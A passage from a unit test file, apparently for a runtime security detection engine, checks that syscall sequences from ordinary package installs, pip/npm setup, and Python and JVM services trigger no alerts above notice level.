      sys('fchmodat', { dirfd: -100, filename: '/usr/bin/curl', mode: '0755' }, { exe: '/usr/bin/dpkg', parents: [APT, EP] }),
      open('/usr/lib/x86_64-linux-gnu/libcurl.so.4.8.0.dpkg-new', 'O_WRONLY|O_CREAT|O_EXCL', { exe: '/usr/bin/dpkg', parents: [APT, EP] }),
      open('/etc/ld.so.cache~', 'O_RDWR|O_CREAT|O_TRUNC', { exe: '/sbin/ldconfig', parents: [DPKG, APT, EP] }, '0644'),
      open('/etc/ssl/certs/ca-certificates.crt', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/sh', parents: [parent('update-ca-certificates', [], '/usr/sbin/update-ca-certificates'), DPKG, APT, EP] }),
      exec(['/var/lib/dpkg/info/libc-bin.postinst', 'configure'], { exe: '/var/lib/dpkg/info/libc-bin.postinst', parents: [DPKG, APT, EP] }),
      open('/etc/passwd', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/sbin/useradd', parents: [parent('sh', ['/var/lib/dpkg/info/x.postinst']), DPKG, APT, EP] }),
      open('/var/log/apt/history.log', 'O_WRONLY|O_CREAT|O_APPEND', { exe: '/usr/bin/apt-get' }),
      open('/var/log/dpkg.log', 'O_WRONLY|O_CREAT|O_APPEND', { exe: '/usr/bin/dpkg', parents: [APT, EP] }),
      connect('10.66.66.66', 80, { exe: '/usr/lib/apt/methods/http', name: 'http', parents: [APT, EP] }),
    ],
    'pip / npm install in an init step': [
      exec(['pip', 'install', '-r', 'requirements.txt'], { exe: '/usr/local/bin/python3.12', name: 'pip', parents: [EP] }),
      open('/usr/local/lib/python3.12/site-packages/flask/__init__.py', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/local/bin/python3.12', name: 'pip', parents: [EP] }),
      open('/usr/local/bin/flask', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/local/bin/python3.12', name: 'pip', parents: [EP] }),
      sys('chmod', { filename: '/usr/local/bin/flask', mode: '0755' }, { exe: '/usr/local/bin/python3.12', name: 'pip', parents: [EP] }),
      exec(['npm', 'ci'], { exe: '/usr/local/bin/node', name: 'npm', parents: [EP] }),
      open('/app/node_modules/.bin/next', 'O_WRONLY|O_CREAT', { exe: '/usr/local/bin/node', name: 'npm', parents: [EP] }),
      exec(['sh', '-c', 'node-gyp rebuild'], { exe: '/bin/sh', parents: [parent('npm', ['ci'], '/usr/local/bin/node'), EP] }),
    ],
    'language runtime service (python app, JVM)': [
      exec(['python3', '-m', 'gunicorn', 'app:app', '-b', '0.0.0.0:8000'], { exe: '/usr/local/bin/python3', parents: [EP] }),
      open('/tmp/wgunicorn-abc', 'O_RDWR|O_CREAT|O_EXCL|O_NOFOLLOW|O_CLOEXEC', { exe: '/usr/local/bin/python3' }, '0600'),
      sys('unlink', { path: '/tmp/wgunicorn-abc' }, { exe: '/usr/local/bin/python3' }),
      exec(['java', '-jar', '/app/app.jar'], { exe: '/opt/java/openjdk/bin/java', parents: [EP] }),
      open('/tmp/hsperfdata_root/1', 'O_RDWR|O_CREAT|O_NOFOLLOW', { exe: '/opt/java/openjdk/bin/java' }, '0600'),
      sysFd('memfd_create', { name: 'jit-cache', flags: 'MFD_CLOEXEC' }, { num: 9, type: 'memfd', name: 'memfd:jit-cache' }, { exe: '/opt/java/openjdk/bin/java' }, 9, 9),
      sysFd('write', { fd: 9, data: '\x00\x00\x00', size: 3 }, { num: 9, type: 'memfd', name: 'memfd:jit-cache' }, { exe: '/opt/java/openjdk/bin/java' }, 3, 3),
      connect('10.66.66.66', 5432, { exe: '/opt/java/openjdk/bin/java' }),
      connect('127.0.0.11', 53, { exe: '/opt/java/openjdk/bin/java' }),
    ],
  };

  it.each(Object.entries(sequences))('%s', (_name, ctxs) => {
    expect(aboveNotice(ctxs)).toEqual([]);
  });

  it('the benign sequences together give at most two distinct notice rules (never a verdict on their own)', () => {
    const notices = new Set(Object.values(sequences).flat().flatMap((c) => rules.evaluate(c).map((m) => m.rule)));
    expect(notices.size).toBeLessThanOrEqual(2);
  });
});
